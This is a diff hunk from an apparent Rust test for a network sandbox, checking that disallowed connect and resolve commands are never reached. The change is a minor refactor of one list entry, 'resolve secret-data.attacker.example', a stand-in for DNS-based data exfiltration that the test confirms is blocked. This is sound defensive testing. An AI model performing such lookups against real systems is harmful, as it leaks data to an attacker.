@@ -143,7 +143,7 @@ async fn nothing_else_is_reached_and_no_name_server_is_asked() {
     for command in [
         format!("connect other.stream.example.com {port}"),
         format!("connect stream.example.com {port}"),
-        format!("resolve secret-data.attacker.example"),
+        "resolve secret-data.attacker.example".to_owned(),
         // Hosts of https rules are for HTTP.
         "resolve api.web.example.com".to_owned(),
         "resolve localhost".to_owned(),
